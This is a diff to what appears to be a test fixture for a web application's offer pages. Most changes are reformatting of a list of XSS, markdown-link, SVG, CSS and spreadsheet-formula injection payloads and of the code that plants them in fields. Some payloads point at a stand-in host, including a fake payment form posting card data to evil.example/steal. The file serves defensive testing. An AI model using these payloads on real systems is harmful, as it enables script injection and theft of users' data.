@@ -91,16 +91,24 @@ PAYLOADS: tuple[Payload, ...] = (
     _p("md_link_javascript_angle", f"[{W}](<{JS}>)", "scheme"),
     _p("md_autolink_javascript", f"<{JS}> {W}", "scheme"),
     _p("md_reference_javascript", f"[{W}][evil]\n\n[evil]: {JS}", "scheme"),
-    _p("md_link_data_html",
-       f"[{W}](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "scheme"),
+    _p(
+        "md_link_data_html",
+        f"[{W}](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+        "scheme",
+    ),
     _p("md_link_vbscript", f"[{W}](vbscript:msgbox(1))", "scheme"),
     _p("html_a_javascript", f'<a href="{JS}">{W}</a>', "scheme"),
-    _p("html_a_javascript_decimal_entities",
-       f'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">'
-       f"{W}</a>", "scheme"),
+    _p(
+        "html_a_javascript_decimal_entities",
+        f'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">{W}</a>',
+        "scheme",
+    ),
     _p("html_a_javascript_tab_entity", f'<a href="jav&#x09;ascript:alert(1)">{W}</a>', "scheme"),
-    _p("html_a_javascript_named_entities",
-       f'<a href="jAvAsCrIpT&colon;alert&lpar;1&rpar;">{W}</a>', "scheme"),
+    _p(
+        "html_a_javascript_named_entities",
+        f'<a href="jAvAsCrIpT&colon;alert&lpar;1&rpar;">{W}</a>',
+        "scheme",
+    ),
     _p("html_a_javascript_leading_control", f'<a href=" &#14; {JS}">{W}</a>', "scheme"),
     _p("html_a_data", f'<a href="data:text/html,<script>alert(1)</script>">{W}</a>', "scheme"),
     _p("html_a_vbscript", f'<a href="VBScript:msgbox(1)">{W}</a>', "scheme"),
@@ -117,9 +125,11 @@ PAYLOADS: tuple[Payload, ...] = (
     _p("base_href", f'<base href="https://evil.example/">{W}'),
     _p("meta_refresh", f'<meta http-equiv="refresh" content="0;url={JS}">{W}', "scheme"),
     _p("link_stylesheet", f'<link rel="stylesheet" href="https://evil.example/x.css">{W}'),
-    _p("form_and_inputs",
-       f'<form action="https://evil.example/steal" method="post"><input name="card">'
-       f'<input type="submit" value="Pay"></form>{W}'),
+    _p(
+        "form_and_inputs",
+        f'<form action="https://evil.example/steal" method="post"><input name="card">'
+        f'<input type="submit" value="Pay"></form>{W}',
+    ),
     _p("select_option", f"<select><option>{W}</option></select>"),
     _p("dialog_open", f"<dialog open>{W}</dialog>"),
     _p("template_script", f"<template><script>alert(1)</script></template>{W}"),
@@ -128,16 +138,25 @@ PAYLOADS: tuple[Payload, ...] = (
     # --- SVG -----------------------------------------------------------------------------
     _p("svg_inline", f'<svg width="2000" height="2000"><circle r="40"/></svg>{W}'),
     _p("svg_script", f"<svg><script>alert(1)</script></svg>{W}"),
-    _p("svg_foreign_object",
-       f'<svg><foreignObject><iframe src="{JS}"></iframe></foreignObject></svg>{W}', "scheme"),
+    _p(
+        "svg_foreign_object",
+        f'<svg><foreignObject><iframe src="{JS}"></iframe></foreignObject></svg>{W}',
+        "scheme",
+    ),
     _p("svg_a_xlink_href", f'<svg><a xlink:href="{JS}"><text>x</text></a></svg>{W}', "scheme"),
     _p("svg_animate_onbegin", f"<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>{W}"),
-    _p("svg_set_href",
-       f'<svg><a><set attributeName="href" to="{JS}"/><text>x</text></a></svg>{W}', "scheme"),
+    _p(
+        "svg_set_href",
+        f'<svg><a><set attributeName="href" to="{JS}"/><text>x</text></a></svg>{W}',
+        "scheme",
+    ),
     _p("svg_style_mutation", f'<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">{W}'),
     _p("math_mglyph_style", f"{W} <math><mi><mglyph><style><img src=x onerror=alert(1)>"),
-    _p("md_image_svg_data", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) "
-                            f"{W}", "scheme"),
+    _p(
+        "md_image_svg_data",
+        f"![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) {W}",
+        "scheme",
+    ),
     # --- CSS -----------------------------------------------------------------------------
     _p("style_tag", f"<style>body{{display:none}}</style>{W}"),
     _p("style_attribute", f'<p style="position:fixed;top:0;left:0;width:100%">{W}</p>'),
@@ -148,8 +167,7 @@ PAYLOADS: tuple[Payload, ...] = (
     _p("class_injection", f'<p class="kp-preview-banner govuk-visually-hidden">{W}</p>'),
     # --- Markdown link and image tricks --------------------------------------------------
     _p("md_nested_brackets", f"[[{W}]({JS})](https://example.org)", "scheme"),
-    _p("md_title_double_quotes",
-       f'[{W}](https://example.org "a\\"><script>alert(1)</script>")'),
+    _p("md_title_double_quotes", f'[{W}](https://example.org "a\\"><script>alert(1)</script>")'),
     _p("md_title_single_quotes", f"[{W}](https://example.org 'x\\' onmouseover=alert(1) ')"),
     _p("md_image_javascript", f"![x]({JS}) {W}", "scheme"),
     _p("md_image_title_onerror", f'![x](https://example.org/x.png "\\" onerror=\\"alert(1)") {W}'),
@@ -162,7 +180,7 @@ PAYLOADS: tuple[Payload, ...] = (
     _p("md_reference_image", f"![x][i] {W}\n\n[i]: {JS}", "scheme"),
     _p("md_link_url_with_quotes", f'[{W}](https://example.org/"onmouseover="alert(1))'),
     _p("md_autolink_with_quotes", f'<https://example.org/"onmouseover="alert(1)> {W}'),
-    _p("md_setext_formula", f"{W}\n===\n=HYPERLINK(\"https://evil.example\")"),
+    _p("md_setext_formula", f'{W}\n===\n=HYPERLINK("https://evil.example")'),
     # --- Comments, CDATA and processing instructions -------------------------------------
     _p("comment_script", f"{W} <!-- <script>alert(1)</script> -->"),
     _p("comment_unclosed", f"{W} <!-- <img src=x onerror=alert(1)>"),
@@ -215,8 +233,7 @@ PAYLOADS: tuple[Payload, ...] = (
     _p("email_script_domain", f"{W}@<script>alert(1)</script>.example", "email"),
     _p("email_mailto_params", f"{W}@example.org?body=<svg/onload=alert(1)>", "email"),
     _p("email_comment", f"{W}<!--x-->@example.org", "email"),
-    _p("email_formula", f"=HYPERLINK(\"https://evil.example\")+{W}@example.org", "email",
-       "formula"),
+    _p("email_formula", f'=HYPERLINK("https://evil.example")+{W}@example.org', "email", "formula"),
 )
 
 # Values web and email address fields must refuse (besides every "bidi" payload).
@@ -357,9 +374,7 @@ class HostileOffer:
     refused_by_schema: set = field(default_factory=set)
 
 
-def build_hostile_offer(
-    offer, *, indices=None, clean: bool = False, holds=None
-) -> HostileOffer:
+def build_hostile_offer(offer, *, indices=None, clean: bool = False, holds=None) -> HostileOffer:
     """Fill `offer` (its working copy) with one section per payload (PAYLOADS[i] for i in
     indices), holding it in the section's fields and in every text field of one entry of
     each type; the offer's own fields take the slice's payloads in turn. Written straight
@@ -381,16 +396,19 @@ def build_hostile_offer(
     built = HostileOffer(offer, indices)
 
     def value(p: int, text_field: TextField, fallback: str):
-        placed = placed_value(PAYLOADS[p], text_field, token(p, index[text_field.label]),
-                              clean=clean or (holds is not None and not holds(text_field)))
+        placed = placed_value(
+            PAYLOADS[p],
+            text_field,
+            token(p, index[text_field.label]),
+            clean=clean or (holds is not None and not holds(text_field)),
+        )
         if placed is None:
             built.refused_by_schema.add((p, text_field.label))
             return fallback
         return placed
 
     for i, text_field in enumerate(f for f in fields if f.where == "offer"):
-        setattr(offer, text_field.name, value(indices[i % len(indices)], text_field,
-                                              "Plain words"))
+        setattr(offer, text_field.name, value(indices[i % len(indices)], text_field, "Plain words"))
     offer.save()
     offer.sections.all().delete()
 
@@ -415,8 +433,10 @@ def build_hostile_offer(
                 section=section,
                 order=0,
                 **defaults.get(entry_type.key, {}),
-                **{f.name: value(p, f, "" if f.model_field.blank else "Plain words")
-                   for f in text_fields},
+                **{
+                    f.name: value(p, f, "" if f.model_field.blank else "Plain words")
+                    for f in text_fields
+                },
             )
             for p, section in zip(indices, sections, strict=True)
         )
@@ -428,8 +448,16 @@ def build_hostile_offer(
 # Markdown, of a section and of entries), so diffs show payloads on both sides.
 PARTS = 4
 PART_INDICES = tuple(tuple(range(len(PAYLOADS)))[n::PARTS] for n in range(PARTS))
-RETOKENED = frozenset({"section.heading", "section.body", "allowances.name", "contacts.notes",
-                       "peer_groups.venue", "training_courses.description"})
+RETOKENED = frozenset(
+    {
+        "section.heading",
+        "section.body",
+        "allowances.name",
+        "contacts.notes",
+        "peer_groups.venue",
+        "training_courses.description",
+    }
+)
 
 
 def retoken(offer, *, version: int, labels: set[str]) -> int:
